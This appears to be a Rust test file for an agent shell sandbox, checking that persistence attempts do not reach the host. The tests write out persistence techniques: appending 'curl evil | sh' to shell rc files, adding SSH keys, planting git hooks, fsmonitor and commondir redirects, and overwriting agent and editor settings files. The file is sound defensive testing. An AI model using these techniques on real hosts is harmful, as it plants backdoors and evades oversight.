//! Persistence: nothing written inside may run later on the host (rc files,
//! git hooks and config, editor/agent settings) or survive outside the workspace.

use std::path::Path;

use crate::harness::*;

/// Append to HOME/REL inside: it lands in the private $HOME tmpfs at most, the
/// host file keeps its bytes. Control: the same append on the host changes it.
fn home_rc(c: &Ctx, rel: &str) {
    let host_file = c.plant(rel, "# original\n");
    let before = read_opt(&host_file);
    let out = c.probe_sc(
        &[],
        &["append", &host_file.display().to_string(), "curl evil | sh"],
    );
    c.seen(&format!(
        "{} (in the private home); host unchanged",
        out.result()
    ));
    let r = out.result();
    assert!(r.starts_with("OK") || r.starts_with("ERR "), "{out:?}");
    assert_eq!(read_opt(&host_file), before, "host {rel} changed");
    let control = c.probe_host(&["append", &host_file.display().to_string(), "x"]);
    assert_ok(&control);
    assert_ne!(read_opt(&host_file), before, "control did not change {rel}");
}

attack!(persist_bashrc, "persistence", |c| {
    home_rc(&c, ".bashrc")
});
attack!(persist_profile, "persistence", |c| {
    home_rc(&c, ".profile")
});
attack!(persist_zshrc, "persistence", |c| { home_rc(&c, ".zshrc") });

attack!(persist_ssh_authorized_keys, "persistence", |c| {
    let path = c.home().join(".ssh/authorized_keys");
    let out = c.sc(
        &[],
        &format!(
            "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA evil >> {}; echo rc=$?",
            path.display()
        ),
    );
    c.seen(&format!("{}; host file absent", out.all().trim()));
    assert!(!path.exists(), "host authorized_keys created");
    let control = c.host(&format!("mkdir -p ~/.ssh && echo x >> {}", path.display()));
    assert_eq!(control.code, Some(0));
    assert!(path.exists());
});

/// Write the workspace-relative REL inside (present at start or not); the
/// kernel refuses and the host bytes (or absence) are unchanged.
fn protected(c: &Ctx, rel: &str, present: bool) {
    let host = c.ws.path().join(rel);
    if present {
        c.ws.write(rel, "{}\n");
    }
    let before = read_opt(&host);
    let out = c.probe_sc(&[], &["create", rel, "{\"evil\": true}"]);
    let r = assert_errno(&out, &["EROFS", "EACCES", "EPERM"]);
    c.seen(&r);
    let after = read_opt(&host);
    if present {
        assert_eq!(after, before, "{rel} changed on the host");
    } else {
        // Absent at start: still absent (or an empty placeholder) afterwards.
        assert!(
            after.as_deref().is_none_or(|b| b.is_empty()) || host.is_dir(),
            "{rel} created on the host: {after:?}"
        );
        let _ = std::fs::remove_file(&host);
    }
    // Control: the host can write it.
    let control = c.probe_host(&["create", rel, "{\"evil\": true}"]);
    assert_ok(&control);
    assert_ne!(read_opt(&host), before);
}

macro_rules! protected_cases {
    ($($name:ident => ($rel:literal, $present:literal),)*) => {$(
        attack!($name, "persistence", |c| { protected(&c, $rel, $present); });
    )*};
}

protected_cases! {
    persist_envrc_absent => (".envrc", false),
    persist_envrc_present => (".envrc", true),
    persist_vscode_tasks_absent => (".vscode/tasks.json", false),
    persist_vscode_tasks_present => (".vscode/tasks.json", true),
    persist_claude_settings_absent => (".claude/settings.json", false),
    persist_claude_settings_present => (".claude/settings.json", true),
    persist_mcp_json_absent => (".mcp.json", false),
    persist_mcp_json_present => (".mcp.json", true),
    persist_devcontainer_absent => (".devcontainer/devcontainer.json", false),
}

attack!(persist_git_hook_new, "persistence", |c| {
    let ws = crate::common::Workspace::git();
    c.ws = ws;
    std::fs::write(c.ws.path().join(".probe.py"), PROBE).unwrap();
    let hook = c.ws.path().join(".git/hooks/pre-commit");
    let out = c.probe_sc(&[], &["create", ".git/hooks/pre-commit", "#!/bin/sh\nevil"]);
    let r = assert_errno(&out, &["EROFS", "EACCES", "EPERM"]);
    c.seen(&r);
    assert!(!hook.exists(), "hook created on the host");
    assert_ok(&c.probe_host(&["create", ".git/hooks/pre-commit", "x"]));
    assert!(hook.exists());
});

attack!(persist_git_hook_existing, "persistence", |c| {
    c.ws = crate::common::Workspace::git();
    std::fs::write(c.ws.path().join(".probe.py"), PROBE).unwrap();
    let hook = c.ws.write(".git/hooks/post-checkout", "#!/bin/sh\ntrue\n");
    let before = sha256(&hook);
    let out = c.probe_sc(&[], &["append", ".git/hooks/post-checkout", "evil"]);
    let r = assert_errno(&out, &["EROFS", "EACCES", "EPERM"]);
    c.seen(&r);
    assert_eq!(sha256(&hook), before);
    assert_ok(&c.probe_host(&["append", ".git/hooks/post-checkout", "x"]));
    assert_ne!(sha256(&hook), before);
});

attack!(persist_git_config_fsmonitor, "persistence", |c| {
    c.ws = crate::common::Workspace::git();
    let config = c.ws.path().join(".git/config");
    let before = sha256(&config);
    let script = "git config core.fsmonitor 'sh -c evil'; echo rc=$?; \
                  git config core.hooksPath /tmp/h; echo rc=$?";
    let out = c.sc(&[], script);
    c.seen(out.all().trim());
    assert!(
        out.stdout.contains("rc=") && !out.stdout.contains("rc=0"),
        "{out:?}"
    );
    assert_eq!(sha256(&config), before, ".git/config changed");
    let control = c.host(script);
    assert!(control.stdout.contains("rc=0"), "{control:?}");
    assert_ne!(sha256(&config), before);
});

/// Write a file named after the canary's tail under DIR inside; nothing appears
/// on the host. Control: writing there on the host creates it (removed again).
fn outside(c: &Ctx, dir: &str, expect_ok_inside: bool) {
    let name = format!("shellcage-attack-{}", &c.canary[7..]);
    let path = Path::new(dir).join(&name);
    let out = c.probe_sc(&[], &["create", &path.display().to_string(), "payload"]);
    let r = out.result();
    c.seen(&format!("{r}; host {} absent", path.display()));
    if expect_ok_inside {
        assert!(r.starts_with("OK"), "{out:?}");
    } else {
        assert_errno(&out, &["EROFS", "EACCES", "EPERM", "ENOENT"]);
    }
    assert!(!path.exists(), "{} appeared on the host", path.display());
    // Control (root only for /etc: an unprivileged host user cannot write it).
    if dir != "/etc" || crate::common::is_root() {
        let control = c.probe_host(&["create", &path.display().to_string(), "payload"]);
        assert_ok(&control);
        assert!(path.exists());
        std::fs::remove_file(&path).unwrap();
    }
}

attack!(persist_write_tmp, "persistence", |c| {
    outside(&c, "/tmp", true)
});
attack!(persist_write_dev_shm, "persistence", |c| {
    outside(&c, "/dev/shm", true)
});
attack!(persist_write_etc, "persistence", |c| {
    outside(&c, "/etc", false)
});
attack!(persist_write_home, "persistence", |c| {
    let home = c.home().display().to_string();
    outside(&c, &home, true)
});

// Review finding: renaming `.git` used to carry the read-only binds of
// `.git/hooks` and `.git/config` away, so a fresh writable `.git` could take
// its place. The directories above protected paths are pinned (mount points).
attack!(persist_git_rename_parent, "persistence", |c| {
    let ok = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(c.ws.path())
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let hook = c.ws.path().join(".git/hooks/pre-commit");
    let out = c.sc(
        &[],
        "mv .git .git-old; echo mv=$?; mkdir -p .git/hooks 2>/dev/null; printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; echo write=$?",
    );
    c.seen(out.all().trim());
    assert!(
        out.all().contains("Device or resource busy"),
        "{}",
        out.all()
    );
    assert!(
        !c.ws.path().join(".git-old").exists(),
        ".git was moved on the host"
    );
    assert!(!hook.exists(), "a pre-commit hook reached the host");
    // Control: without the sandbox the same rename works.
    let control = c.host("mv .git .git-old && echo moved");
    assert!(control.all().contains("moved"));
    assert!(c.ws.path().join(".git-old").is_dir());
});

// Review finding: `.git/commondir` redirects git's config (and hooks) to a
// directory the agent controls. Created in the sandbox, it is removed at exit.
attack!(persist_git_commondir, "persistence", |c| {
    let ok = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(c.ws.path())
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let commondir = c.ws.path().join(".git/commondir");
    let out = c.sc(&[], "mkdir -p evil && cp -a .git/. evil/ && echo \"$PWD/evil\" > .git/commondir && echo planted");
    c.seen(&out.result());
    assert!(
        out.all().contains("planted"),
        "the probe did not run: {}",
        out.all()
    );
    assert!(
        out.all().contains("removed"),
        "no notice of the removal: {}",
        out.all()
    );
    assert!(!commondir.exists(), ".git/commondir survived the run");
    // Control: on the host the file stays, and git follows it.
    let control = c.host("echo \"$PWD/evil\" > .git/commondir && echo planted");
    assert!(control.all().contains("planted"));
    assert!(commondir.exists());
});

// A protected path that is a symlink (here pointing outside the workspace)
// cannot be held by a mount: the run is refused and nothing runs.
attack!(persist_protected_symlink_refused, "persistence", |c| {
    let outside = tempfile::tempdir_in(std::env::temp_dir()).unwrap();
    std::os::unix::fs::symlink(outside.path(), c.ws.path().join(".vscode")).unwrap();
    let out = c.sc(
        &[],
        "rm .vscode && mkdir .vscode && echo '{}' > .vscode/tasks.json && echo wrote",
    );
    c.seen(&out.result());
    assert_eq!(out.code, Some(125), "{}", out.all());
    assert!(out.all().contains("symlink"), "{}", out.all());
    assert!(!out.all().contains("wrote"));
    assert!(
        std::fs::symlink_metadata(c.ws.path().join(".vscode"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    // Control: the same script on the host replaces the link.
    let control =
        c.host("rm .vscode && mkdir .vscode && echo '{}' > .vscode/tasks.json && echo wrote");
    assert!(control.all().contains("wrote"));
});
